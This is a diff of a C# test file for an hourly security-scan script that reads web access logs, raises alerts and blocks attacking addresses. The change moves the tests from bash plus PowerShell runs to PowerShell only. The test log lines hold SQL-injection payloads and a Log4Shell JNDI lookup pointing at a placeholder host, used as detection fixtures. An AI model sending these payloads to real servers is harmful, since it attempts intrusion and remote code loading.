@@ -1,6 +1,7 @@
 using System.Diagnostics;
 using System.Globalization;
 using System.Text.Json;
+using OpsModule.Cmdlets.Tests.Running;
 using OpsModule.Engine.Tests.Fixtures;
 
 namespace OpsModule.Cmdlets.Tests.Examples;
@@ -19,19 +20,16 @@ public sealed class SecurityScanTests : IAsyncDisposable
         _folder.Dispose();
     }
 
-    public static TheoryData<string> Ways => Pwsh is not null ? ["ops", "pwsh"] : ["ops"];
-
-    [Theory]
-    [MemberData(nameof(Ways))]
-    public async Task Files_are_told_of_once_and_their_attackers_blocked_for_a_day(string way)
+    [Fact]
+    public async Task Files_are_told_of_once_and_their_attackers_blocked_for_a_day()
     {
         Environment();
         Append("access.log", Enumerable.Range(0, 25).Select(i => Request("203.0.113.7", $"/item?id=1%27+union+select+{i},2")));
         Append("access.log", Enumerable.Range(0, 25).Select(i => Request("198.51.100.9", $"/item?id=1%27+union+select+{i},2"))); // attacks.allow names it
         Append("access.log", [Request("203.0.113.8", "/")]);
 
-        (int code, string said) = await RunAsync(way, "access.log*");
-        Assert.True(code == (way == "ops" ? 0 : 1), said);
+        (int code, string said) = await RunAsync("access.log*");
+        Assert.True(code == 1, said);
         JsonElement told = Told().Single();
         Assert.Equal("critical", told.GetProperty("severity").GetString());
         Assert.Contains("25 attack matches", told.GetProperty("title").GetString());
@@ -41,27 +39,26 @@ public sealed class SecurityScanTests : IAsyncDisposable
         // Rotated, and quiet since: nothing is told again but that it is over; the addresses of the day stay blocked.
         File.Move(_folder["access.log"], _folder["access.log.1"]);
         Append("access.log", [Request("203.0.113.8", "/a")]);
-        (code, said) = await RunAsync(way, "access.log*");
+        (code, said) = await RunAsync("access.log*");
         Assert.True(code == 0, said);
         Assert.Equal(["firing", "resolved"], Told().Select(t => t.GetProperty("state").GetString()!));
         Assert.Equal(["203.0.113.7"], Denied());
 
         Append("access.log", [Request("203.0.113.9", "/?x=$%7Bjndi:ldap://x.example/a%7D")]);
-        (code, said) = await RunAsync(way, "access.log*");
-        Assert.True(code == (way == "ops" ? 0 : 1), said);
+        (code, said) = await RunAsync("access.log*");
+        Assert.True(code == 1, said);
         Assert.Contains("1 attack match", Told().Last().GetProperty("title").GetString());
     }
 
-    [Theory]
-    [MemberData(nameof(Ways))]
-    public async Task Services_are_looked_into_where_no_file_is_named(string way)
+    [Fact]
+    public async Task Services_are_looked_into_where_no_file_is_named()
     {
         Environment($"platform: {{ compose: {{ file: compose.yaml, project: {_project} }} }}\n");
         string lines = string.Join('\n', Enumerable.Range(0, 25).Select(i => Request("203.0.113.7", $"/item?id=1%27+union+select+{i},2")));
         await DockerFixture.RunAsync(_project, "api", $"cat <<'END'\n{lines}\nSECURITY: audit log failure\nEND\ntrap 'exit 0' TERM; while :; do sleep 0.2; done");
         for (int attempt = 0; ; attempt++) // until the engine has what the container wrote
         {
-            (int code, string said) = await RunAsync(way);
+            (int code, string said) = await RunAsync();
             Assert.True(code is 0 or 1, said);
             string all = File.ReadAllText(_folder["attacks.html"]) + string.Concat(Told().Select(t => t.GetRawText()));
             if (Denied() is ["203.0.113.7"] && Told().Any(t => t.GetProperty("state").GetString() == "firing") && all.Contains("SecurityEvent")) break;
@@ -70,13 +67,12 @@ public sealed class SecurityScanTests : IAsyncDisposable
         }
     }
 
-    [Theory]
-    [MemberData(nameof(Ways))]
-    public async Task A_scan_that_failed_tells_nobody_that_all_is_well(string way)
+    [Fact]
+    public async Task A_scan_that_failed_tells_nobody_that_all_is_well()
     {
         Environment();
-        (int code, string said) = await RunAsync(way, "none.log");
-        Assert.Equal(way == "ops" ? 1 : 2, code);
+        (int code, string said) = await RunAsync("none.log");
+        Assert.Equal(2, code);
         Assert.Contains("none.log", said);
         Assert.Empty(_web.Requests);
         Assert.False(File.Exists(_folder["attacks.json"]));
@@ -97,18 +93,13 @@ public sealed class SecurityScanTests : IAsyncDisposable
 
     private string[] Denied() => File.Exists(_folder["blocked.conf"]) ? [.. File.ReadLines(_folder["blocked.conf"]).Where(l => l.StartsWith("deny ", StringComparison.Ordinal)).Select(l => l[5..l.IndexOf(';')])] : [];
 
-    private static string? Pwsh => System.Environment.GetEnvironmentVariable("PATH")!.Split(':').Select(p => Path.Combine(p, "pwsh")).FirstOrDefault(File.Exists);
-
     /// <summary>Runs the example as a scheduler would.</summary>
-    private async Task<(int Code, string Said)> RunAsync(string way, string? files = null)
+    private async Task<(int Code, string Said)> RunAsync(string? files = null)
     {
         File.WriteAllText(_folder["hook.secret"], _web.Url("/ok"));
-        string script = Path.Combine(MorningProject.Root, "examples", "hourly-security-scan");
-        string[] arguments = way == "ops"
-            ? ["bash", script + ".sh", "ops.yaml", "attacks.json", "attacks.html", "blocked.conf", "Nginx", .. files is null ? Array.Empty<string>() : [files]]
-            : [Pwsh!, "-NoProfile", "-File", script + ".ps1", "-Environment", "ops.yaml", "-Baseline", "attacks.json", "-Report", "attacks.html", "-BlockList", "blocked.conf", .. files is null ? Array.Empty<string>() : ["-Path", files]];
-        var info = new ProcessStartInfo(arguments[0], arguments[1..]) { WorkingDirectory = _folder.Path, RedirectStandardOutput = true, RedirectStandardError = true };
-        info.Environment["OPS"] = Path.Combine(MorningProject.Root, "out", "ops", "ops");
+        string script = Path.Combine(MorningProject.Root, "examples", "hourly-security-scan.ps1");
+        string[] arguments = ["-NoProfile", "-File", script, "-Environment", "ops.yaml", "-Baseline", "attacks.json", "-Report", "attacks.html", "-BlockList", "blocked.conf", .. files is null ? Array.Empty<string>() : ["-Path", files]];
+        var info = new ProcessStartInfo(PwshProcess.Program, arguments) { WorkingDirectory = _folder.Path, RedirectStandardOutput = true, RedirectStandardError = true };
         info.Environment["PSModulePath"] = Path.Combine(MorningProject.Root, "out");
         using Process run = Process.Start(info)!;
         Task<string> output = run.StandardOutput.ReadToEndAsync(), errors = run.StandardError.ReadToEndAsync();
